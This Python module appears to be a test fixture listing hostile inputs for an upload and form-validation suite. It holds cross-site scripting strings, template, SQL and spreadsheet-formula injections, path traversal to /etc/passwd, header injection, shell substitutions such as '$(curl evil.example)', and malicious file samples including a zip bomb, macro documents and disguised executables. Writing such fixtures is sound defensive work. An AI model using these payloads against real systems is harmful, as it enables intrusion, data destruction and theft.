"""Texts and files that somebody would try."""

import io
import zipfile

MARK = "xq7"  # stands in every text that would run, so that a page can be searched for it
SCRIPTS = (
    f"<script>{MARK}()</script>",
    f"</textarea><script>{MARK}()</script>",
    f"</title><script>{MARK}()</script>",
    f'"><script>{MARK}()</script>',
    f"'><script>{MARK}()</script>",
    f'" onmouseover="{MARK}()',
    f"' onfocus='{MARK}()' autofocus='",
    f"<img src=x onerror={MARK}()>",
    f"<svg/onload={MARK}()>",
    f"<svg><script>{MARK}()</script></svg>",
    f"<iframe srcdoc='<script>{MARK}()</script>'></iframe>",
    f"<a href='javascript:{MARK}()'>here</a>",
    f"<details open ontoggle={MARK}()>",
    f"<body onload={MARK}()>",
    f"<math><mi xlink:href='javascript:{MARK}()'>",
    f"<form action=//evil.example><input name={MARK}>",
    f"<base href=//evil.example/{MARK}/>",
    f"<meta http-equiv=refresh content='0;url=//evil.example/{MARK}'>",
    f"<link rel=attachment href=file:///etc/passwd#{MARK}>",
    f"<style>@import '//evil.example/{MARK}'</style>",
    f"<!--><script>{MARK}()</script>-->",
    f"<![CDATA[<script>{MARK}()</script>]]>",
    f"\u003cscript\u003e{MARK}()\u003c/script\u003e",
    f"<scr<script>ipt>{MARK}()</script>",
    f"<SCRIPT\x0bSRC=//evil.example/{MARK}></SCRIPT>",
    f"<noscript><p title='</noscript><script>{MARK}()</script>'>",
    f"<template><script>{MARK}()</script></template>",
    f"<object data='data:text/html,<script>{MARK}()</script>'></object>",
    f"javascript:{MARK}()//<a>",
    f"<xss style='behavior:url(#{MARK})'>",
)
TEMPLATES = (
    "{{ 7919*7907 }}",
    "{% include 'base.html' %}",
    "{% debug %}",
    "{{ settings.SECRET_KEY }}",
    "${7919*7907}",
    "#{7919*7907}",
    "<%= 7919*7907 %>",
    "{{constructor.constructor('return 7919*7907')()}}",
    "{{ request.user.password }}",
    "%(settings)s %s %d {0.__class__}",
)
SQL = (
    "'; DROP TABLE attestations_attestation; --",
    "' OR '1'='1",
    "1) UNION SELECT password FROM accounts_user --",
    "\\'; SELECT pg_sleep(9); --",
    "$$; TRUNCATE journal_entry; $$",
    "%' AND 1=0 --",
    "Robert'); DELETE FROM organisations_scope;--",
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/etc/passwd",
    "file:///etc/passwd",
    "\\\\evil.example\\share",
    "php://filter/resource=x",
    "....//....//etc/passwd",
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","x")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
)
LETTERS = (
    "\u202egnp.exe",
    "\u2066abc\u2069 \u200f\u200e",
    "\u200b\u200c\u200d\ufeff",
    "\ufffe\uffff",
    "a" + "\u0301" * 400,
    "🏴\U000e0067\U000e0062\U000e007f",
    "𝕋𝕣𝕦𝕤𝕥",
    "\u0130\u0131\u017f\u212a",
    "ﷺ" * 40,
    "\u00ad\u2028\u2029line",
    "\u061c العربية",
    "-- \r\nBcc: everybody@people.example",
    "Subject: x\nContent-Type: text/html\n\n<b>",
    "\x1b[31mred\x1b[0m",
    "\x07\x08bell",
    "NULL",
    "undefined",
    "NaN",
    "-0",
    "1e309",
    "true",
    "[object Object]",
    "{}",
    "<",
    "&lt;script&gt;",
    "&#x3C;script&#x3E;",
    "&amp;amp;",
    "\\u003cscript\\u003e",
    "]]>",
    "%00",
    "\\0",
    "Ω" * 900,
    "W" * 1900,
    "<" * 900,
    "a b " * 400,
    "https://user:secret@evil.example/\u2215",
    "mailto:x@evil.example?bcc=y",
    "`id`; $(id) | id",
    "$(curl evil.example)",
    "%n%n%n%s%s",
)
TEXTS = (*SCRIPTS, *TEMPLATES, *SQL, *PATHS, *FORMULAS, *LETTERS)
WITH_NULL = ("\x00", "a\x00b", "\x00<script>", "name\x00.pdf")


def packed(**members: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name.replace("__", "/"), content)
    return made.getvalue()


PAGE = f"<!DOCTYPE html><html><script>{MARK}()</script></html>".encode()
DRAWING = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{MARK}()"/>'.encode()
PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 40
PROGRAM = b"MZ\x90\x00" + b"\x00" * 200
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 200
MACROS = packed(**{"[Content_Types].xml": b"<x/>", "word__vbaProject.bin": b"x"})
BOMB = packed(**{"a.bin": b"\x00" * 20_000_000})

# name, content: each is refused
REFUSED = (
    ("page.html", PAGE),
    ("page.htm", PAGE),
    ("page.txt", PAGE),
    ("page.pdf", PAGE),
    ("page.md", PAGE),
    ("page.csv", PAGE),
    ("page.xml", PAGE),
    ("page.json", PAGE),
    ("page.xhtml", PAGE),
    ("late.txt", b" " * 9000 + PAGE),
    ("upper.txt", PAGE.upper()),
    ("drawing.svg", DRAWING),
    ("drawing.txt", DRAWING),
    ("drawing.xml", DRAWING),
    ("drawing.png", DRAWING),
    ("styled.xml", b'<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a/>'),
    ("script.js", b"alert(1)"),
    ("script.sh", b"#!/bin/sh\nid\n"),
    ("script.txt", b"#!/bin/sh\nid\n"),
    ("script.php", b"<?php system('id'); ?>"),
    ("script.txt", b"<?php system('id'); ?>"),
    ("script.py", b"import os"),
    ("script.bat", b"@echo off"),
    ("program.exe", PROGRAM),
    ("program.pdf", PROGRAM),
    ("program.png", PROGRAM),
    ("program.docx", PROGRAM),
    ("program", ELF),
    ("program.pdf", ELF),
    ("report.pdf.exe", PDF),
    ("report.pdf.html", PDF),
    ("report.html", PDF),
    ("report.png", PDF),
    ("report.txt", PDF),
    ("report.docx", PDF),
    ("report", PDF),
    ("picture.pdf", PNG),
    ("picture.svg", PNG),
    ("picture.html", PNG),
    ("archive.zip", packed(**{"a.txt": b"x"})),
    ("archive.docx", packed(**{"a.txt": b"x"})),
    ("archive.pdf", packed(**{"a.txt": b"x"})),
    ("bomb.zip", BOMB),
    ("bomb.docx", BOMB),
    ("climbing.zip", packed(**{"..__..__etc__passwd": b"x"})),
    ("macros.docx", MACROS),
    ("macros.docm", MACROS),
    ("broken.docx", b"PK\x03\x04" + b"\x00" * 50),
    ("empty.pdf", b""),
    ("empty.txt", b""),
    ("nulls.txt", b"\x00" * 500),
    ("nulls.bin", b"a\x00b"),
    ("latin.txt", "caf\xe9 ".encode("latin-1") * 5000),
    ("utf16.txt", "<script>".encode("utf-16")),
    ("deep.json", b"[" * 200_000),
    ("not.json", b"{x"),
    ("disk.iso", b"\x00" * 32769 + b"CD001" + b"\x00" * 50),
    ("mail.eml", b"From: x\nContent-Type: text/html\n\n" + PAGE),
    ("shortcut.lnk", b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 60),
    ("shortcut.url", b"[InternetShortcut]\nURL=file:///c:/x"),
    ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600),
    ("packed.gz", b"\x1f\x8b\x08\x00" + b"\x00" * 40),
    ("packed.7z", b"7z\xbc\xaf\x27\x1c" + b"\x00" * 40),
    ("code.class", b"\xca\xfe\xba\xbe" + b"\x00" * 40),
    ("code.wasm", b"\x00asm\x01\x00\x00\x00"),
)
# name -> what its harmless content is kept as; the name never leads anywhere
NAMES = (
    "../../etc/cron.d/x.txt",
    "..\\..\\x.txt",
    "/etc/passwd.txt",
    "\u202etxt.exe.txt",
    "a" * 300 + ".txt",
    '"; filename=x.html; x=".txt',
    "line\r\nSet-Cookie: a=b.txt",
    "<script>xq7()</script>.txt",
    "%2e%2e%2fx.txt",
    "con.txt",
    "🧪.txt",
)
